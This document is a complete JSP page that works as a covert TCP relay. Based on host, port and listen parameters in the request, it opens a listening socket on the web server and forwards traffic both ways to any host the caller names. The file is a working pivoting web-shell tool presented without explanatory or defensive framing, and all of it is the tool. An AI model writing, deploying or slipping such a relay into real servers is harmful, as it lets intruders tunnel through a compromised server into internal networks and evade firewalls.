<%@ page import="java.net.*,java.io.*" %>
<%!
// copies one socket's stream into another until either side closes
class Pump extends Thread {
    InputStream in; OutputStream out;
    Pump(InputStream a, OutputStream b) { in = a; out = b; }
    public void run() {
        try { byte[] b = new byte[4096]; int n; while ((n = in.read(b)) > 0) { out.write(b, 0, n); out.flush(); } }
        catch (Exception e) { }
    }
}
%>
<%
String target = request.getParameter("host");
int targetPort = Integer.parseInt(request.getParameter("port"));
int listenPort = Integer.parseInt(request.getParameter("listen"));
ServerSocket server = new ServerSocket(listenPort);
Socket client = server.accept();
Socket remote = new Socket(target, targetPort);
new Pump(client.getInputStream(), remote.getOutputStream()).start();
new Pump(remote.getInputStream(), client.getOutputStream()).start();
out.print("relaying");
%>
